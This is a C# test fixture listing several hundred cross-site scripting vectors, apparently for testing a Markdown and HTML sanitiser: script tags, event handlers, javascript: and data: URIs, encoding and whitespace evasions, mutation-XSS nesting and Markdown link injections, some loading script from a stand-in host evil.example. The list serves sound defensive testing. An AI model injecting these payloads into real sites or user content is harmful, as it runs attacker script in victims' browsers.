namespace Daftar.Tests.Markup;

/// <summary>
/// Cross-site scripting attempts of the kinds that the OWASP filter evasion cheat sheet, the PortSwigger cheat sheet
/// and published sanitiser bypasses describe. One a line; ⏎ stands for a line feed, ⇥ for a tab, ␀ for NUL.
/// </summary>
internal static class XssVectors
{
    public static string[] All() => Lines.Split('\n', StringSplitOptions.RemoveEmptyEntries);

    public static string Decode(string line) => line.Replace('⏎', '\n').Replace('⇥', '\t').Replace('␀', '\0');

    private const string Lines =
        """"
        <script>alert(1)</script>
        <SCRIPT SRC=https://evil.example/x.js></SCRIPT>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <script/x>alert(1)</script>
        <script⏎>alert(1)</script⏎>
        <<script>alert(1);//<</script>
        <script>alert(1)
        <script src=//evil.example/x.js
        </script><script>alert(1)</script>
        "><script>alert(1)</script>
        '"--></style></script><script>alert(1)</script>
        <script type="text/javascript">alert(1)</script >
        <script src="data:text/javascript,alert(1)"></script>
        <script>//<![CDATA[⏎alert(1)⏎//]]></script>
        text <script>alert(1)</script> text
        text <script>alert(1)⏎⏎</script> text
        <img src=x onerror=alert(1)>
        <img src="x" onerror="alert(1)" alt="x">
        <img/src=x/onerror=alert(1)>
        <img src=x:alert(1) onerror=eval(src)>
        <IMG SRC="javascript:alert('XSS');">
        <IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
        <IMG SRC=JaVaScRiPt:alert(1)>
        <IMG SRC=`javascript:alert("1")`>
        <IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>
        <IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
        <IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>
        <IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)>
        <IMG SRC="jav⇥ascript:alert(1);">
        <IMG SRC="jav&#x09;ascript:alert(1);">
        <IMG SRC="jav&#x0A;ascript:alert(1);">
        <IMG SRC="jav⏎ascript:alert(1);">
        <IMG SRC=" &#14; javascript:alert(1);">
        <IMG SRC="&#1;javascript:alert(1)">
        <IMG LOWSRC="javascript:alert(1)">
        <IMG DYNSRC="javascript:alert(1)">
        <img srcset="x, javascript:alert(1) 2x" onload=alert(1)>
        <img src="data:image/svg+xml,<svg onload=alert(1)>">
        <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
        <img src="x` `<script>alert(1)</script>"` `>
        <img src=1 alt="><script>alert(1)</script>">
        <img src='x' title='"onerror="alert(1)'>
        <img src="a" alt="b" src="javascript:alert(1)" onerror=alert(1) onerror=alert(2)>
        <image src=x onerror=alert(1)>
        <a href="javascript:alert(1)">x</a>
        <a href=javascript:alert(1)>x</a>
        <a href="JAVASCRIPT:alert(1)">x</a>
        <a href="java⏎script:alert(1)">x</a>
        <a href="java&Tab;script&colon;alert(1)">x</a>
        <a href="java&NewLine;script:alert(1)">x</a>
        <a href="&#106avascript:alert(1)">x</a>
        <a href="&#x6A;avascript&#58;alert(1)">x</a>
        <a href=" javascript:alert(1)">x</a>
        <a href="␀javascript:alert(1)">x</a>
        <a href="java␀script:alert(1)">x</a>
        <a href="&#8203;javascript:alert(1)">x</a>
        <a href="vbscript:msgbox(1)">x</a>
        <a href="livescript:alert(1)">x</a>
        <a href="data:text/html,<script>alert(1)</script>">x</a>
        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
        <a href="blob:https://x.example/1">x</a>
        <a href="filesystem:http://x.example/1">x</a>
        <a href="view-source:javascript:alert(1)">x</a>
        <a href="jar:http://x.example!/x">x</a>
        <a href="feed:javascript:alert(1)">x</a>
        <a href="file:///etc/passwd">x</a>
        <a href="//evil.example/">x</a>
        <a href="\\evil.example/">x</a>
        <a href="/\evil.example/">x</a>
        <a href="http:javascript:alert(1)">x</a>
        <a href="https:///evil">x</a>
        <a href="#" onclick="alert(1)">x</a>
        <a href=x onmouseover=alert(1)//>x</a>
        <a href="x" xlink:href="javascript:alert(1)">x</a>
        <a href='x' "onclick="alert(1)">x</a>
        <a onclick=alert(1) href>x</a>
        <a href="x"onfocus="alert(1)"autofocus>x</a>
        <a href="https://x.example/" target="_blank" ping="https://evil.example/">x</a>
        <a id="__proto__" name="cookie">x</a>
        <b onmouseover=alert(1)>x</b>
        <b/onclick=alert(1)>x</b>
        <b onfocus=alert(1) tabindex=1 contenteditable>x</b>
        <p style="background:url(javascript:alert(1))">x</p>
        <div style="width: expression(alert(1));">x</div>
        <div style="behavior:url(x.htc)">x</div>
        <div style=xss:expr/*x*/ession(alert(1))>x</div>
        <div style="position:fixed;inset:0;background:white">x</div>
        <div class="site-header" id="main">x</div>
        <style>@import 'https://evil.example/x.css';</style>
        <style>body{background:url("javascript:alert(1)")}</style>
        <style><img src="</style><img src=x onerror=alert(1)//">
        <style>*{x:expression(alert(1))}</style>
        <link rel="stylesheet" href="javascript:alert(1);">
        <link rel=import href="data:text/html,<script>alert(1)</script>">
        <meta http-equiv="refresh" content="0;url=javascript:alert(1);">
        <meta http-equiv="Set-Cookie" content="a=b">
        <base href="javascript:alert(1);//">
        <iframe src="javascript:alert(1);"></iframe>
        <iframe srcdoc="<script>alert(1)</script>"></iframe>
        <iframe src=x onload=alert(1)>
        <frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
        <object data="javascript:alert(1)"></object>
        <object type="text/x-scriptlet" data="https://evil.example/"></object>
        <embed src="javascript:alert(1)">
        <embed code="https://evil.example/x.swf" allowscriptaccess=always>
        <applet code="x" archive="https://evil.example/x.jar"></applet>
        <form action="javascript:alert(1)"><input type=submit></form>
        <form><button formaction=javascript:alert(1)>x</button></form>
        <isindex type=image src=1 onerror=alert(1)>
        <input onfocus=alert(1) autofocus>
        <input type="image" src="javascript:alert(1);">
        <button onclick=alert(1)>x</button>
        <select onfocus=alert(1) autofocus><option>x</select>
        <textarea onfocus=alert(1) autofocus>x
        <keygen onfocus=alert(1) autofocus>
        <body onload=alert(1)>
        <body background="javascript:alert(1)">
        <html onclick=alert(1)>
        <table background="javascript:alert(1)"><tr><td>x</table>
        <table><td background="javascript:alert(1)">x</td></table>
        <video src=x onerror=alert(1)></video>
        <video><source onerror="javascript:alert(1)"></video>
        <audio src=x onerror=alert(1)></audio>
        <details open ontoggle=alert(1)><summary>x</summary></details>
        <marquee onstart=alert(1)>x</marquee>
        <bgsound src="javascript:alert(1);">
        <blink onclick=alert(1)>x</blink>
        <svg onload=alert(1)>
        <svg/onload=alert(1)//
        <svg><script>alert(1)</script></svg>
        <svg><script>alert&#40;1&#41;</script></svg>
        <svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
        <svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
        <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
        <svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
        <math href="javascript:alert(1)">x</math>
        <math><mi//xlink:href="data:x,<script>alert(1)</script>">
        <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <noembed><img src="</noembed><img src=x onerror=alert(1)>"></noembed>
        <xmp><img src="</xmp><img src=x onerror=alert(1)>"></xmp>
        <title><img src="</title><img src=x onerror=alert(1)>"></title>
        <template><script>alert(1)</script></template>
        <plaintext><script>alert(1)</script>
        <listing>&lt;img src=x onerror=alert(1)&gt;</listing>
        <p title="`--!><img src=x onerror=alert(1)>">x</p>
        <!--><img src=x onerror=alert(1)>-->
        <!---><img src=x onerror=alert(1)>-->
        <!-- --!><img src=x onerror=alert(1)> -->
        <!--[if gte IE 4]><script>alert(1);</script><![endif]-->
        <! foo="><script>alert(1)</script>">
        <? foo="><script>alert(1)</script>">
        </ foo="><script>alert(1)</script>">
        <% foo><x foo="%><script>alert(1)</script>">
        <![CDATA[<script>alert(1)</script>]]>
        <![CDATA[ x ]]><img src=x onerror=alert(1)>
        <!DOCTYPE html><script>alert(1)</script>
        <!ENTITY x "y"><script>alert(1)</script>
        <?xml-stylesheet href="javascript:alert(1)"?>
        <xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>
        <x onclick=alert(1)>x</x>
        <custom-element onclick=alert(1)>x</custom-element>
        <div contenteditable onblur=alert(1)>x</div>
        <div⏎onclick⏎=⏎alert(1)>x</div>
        <div/*x*/onclick=alert(1)>x</div>
        <div onclick=alert(1) x=">x</div>
        <div title="x" title="y" onclick=alert(1)>x</div>
        <div title='x'onclick='alert(1)'>x</div>
        <div "onclick=alert(1)>x</div>
        <div =onclick=alert(1)>x</div>
        <div dir="rtl&quot; onclick=&quot;alert(1)">x</div>
        <div lang='"><script>alert(1)</script>'>x</div>
        <div is="x-y" slot=a part=b nonce=c>x</div>
        <q cite="javascript:alert(1)">x</q>
        <blockquote cite="data:text/html,x">x</blockquote>
        <ol start="1&quot; onclick=&quot;alert(1)"><li>x</ol>
        <time datetime="2025-01-01&quot;onclick=alert(1)">x</time>
        <td colspan="2 onclick=alert(1)">x</td>
        <a href="x"><a href="javascript:alert(1)">y</a></a>
        <a href="x"><svg><a xlink:href="javascript:alert(1)">y</a></svg></a>
        <p><b><i><p></b></i><script>alert(1)</script>
        <b><table><tr><td></b><script>alert(1)</script>
        &lt;script&gt;alert(1)&lt;/script&gt;
        &#60;script&#62;alert(1)&#60;/script&#62;
        \<script\>alert(1)\</script\>
        +ADw-script+AD4-alert(1)+ADw-/script+AD4-
        [x](javascript:alert(1))
        [x](JaVaScRiPt:alert(1))
        [x]( javascript:alert(1))
        [x](javascript&colon;alert(1))
        [x](java&#x09;script:alert(1))
        [x](&#106;avascript:alert(1))
        [x](<javascript:alert(1)>)
        [x](<java⇥script:alert(1)>)
        [x](\javascript:alert(1))
        [x](javascript\:alert(1))
        [x](javascript%3Aalert(1))
        [x](&#1;javascript:alert(1))
        [x](vbscript:msgbox(1))
        [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg)
        [x](//evil.example)
        [x](\\evil.example)
        [x](https://x.example "onclick=alert(1)")
        [x](https://x.example '" onclick="alert(1)')
        [x](https://x.example/"onclick="alert(1))
        [x](https://x.example/<script>)
        [<script>alert(1)</script>](https://x.example)
        [x][1]⏎⏎[1]: javascript:alert(1)
        [x]⏎⏎[x]: <java script:alert(1)> "t"
        ![x](javascript:alert(1))
        ![x](data:image/svg+xml,<svg/onload=alert(1)>)
        ![x" onerror="alert(1)](y.png)
        ![x](y.png "\"onerror=\"alert(1)")
        ![<img src=x onerror=alert(1)>](y.png)
        ![x](y.png"onerror="alert(1))
        [![x](javascript:alert(1))](javascript:alert(2))
        <javascript:alert(1)>
        <JAVASCRIPT:alert(1)>
        <data:text/html,x>
        <vbscript:x>
        <mailto:x@y.example?body=<script>>
        https://x.example/<script>alert(1)</script>
        www.x.example"onclick="alert(1)
        ```"><script>alert(1)</script>⏎x⏎```
        ```js" onclick="alert(1)⏎</code></pre><script>alert(1)</script>⏎```
        `<script>alert(1)</script>`
        # <img src=x onerror=alert(1)> heading
        ## "><script>alert(1)</script>
        | <script>alert(1)</script> | b |⏎|---|---|⏎| <img src=x onerror=alert(1)> | "> |
        > <script>⏎> alert(1)⏎> </script>
        - <svg onload=alert(1)>⏎  - </svg><img src=x onerror=alert(1)>
        x[^"><script>alert(1)</script>]⏎⏎[^"><script>alert(1)</script>]: <img src=x onerror=alert(1)>
        term⏎:   <script>alert(1)</script>
        ~~<img src=x onerror=alert(1)~~>
        **<b onclick=alert(1)**>x</b>
        <div>⏎⏎[x](javascript:alert(1))⏎⏎</div>⏎</div></div></article><script>alert(1)</script>
        <div⏎⏎onclick=alert(1)>
        </article></main></body></html><script>alert(1)</script>
        <p>⏎⏎</p><p⏎onclick=alert(1)⏎⏎>
        """";
}
